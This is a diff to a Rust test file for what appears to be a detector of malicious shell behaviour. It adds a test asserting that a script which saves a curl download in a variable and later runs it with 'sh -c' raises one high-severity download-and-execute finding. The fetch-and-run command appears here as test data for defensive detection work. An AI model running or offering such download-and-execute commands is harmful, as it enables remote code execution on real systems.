@@ -3158,8 +3158,24 @@ fn a_download_captured_by_the_script_and_run_as_a_command_string() {
             "{name}"
         );
     }
-    // A fetched value used as data, a pipe into an inline program's standard input, a
-    // download followed by other commands before the inline program.
+    // A download kept in a variable and run by a later line, other commands between: the
+    // exec records alone cannot tie the inline program to the download, the script's text
+    // does (`sh -c "$v"`).
+    let found = script(
+        "/bin/bash",
+        "later.sh",
+        &format!("v=$(curl -s {url}/run.sh)\nls >/dev/null\nsh -c \"$v\""),
+    );
+    let high: Vec<_> = of(&found, "behaviour-download-pipe-exec")
+        .into_iter()
+        .filter(|f| f.severity_label == SeverityLabel::High)
+        .collect();
+    assert_eq!(high.len(), 1, "later: {:?}", kinds(&found));
+    assert_eq!(
+        high[0].context.additional["programReadFrom"],
+        "a command substitution its script evaluates"
+    );
+    // A fetched value used as data, a pipe into an inline program's standard input.
     for (name, body) in [
         (
             "value",
@@ -3170,10 +3186,6 @@ fn a_download_captured_by_the_script_and_run_as_a_command_string() {
         (
             "stdin",
             format!("curl -s {url}/list | python3 -c 'import sys; sys.stdin.read()'"),
-        ),
-        (
-            "later",
-            format!("v=$(curl -s {url}/run.sh)\nls >/dev/null\nsh -c \"$v\""),
         ),
     ] {
         let found = script("/bin/bash", &format!("{name}.sh"), &body);
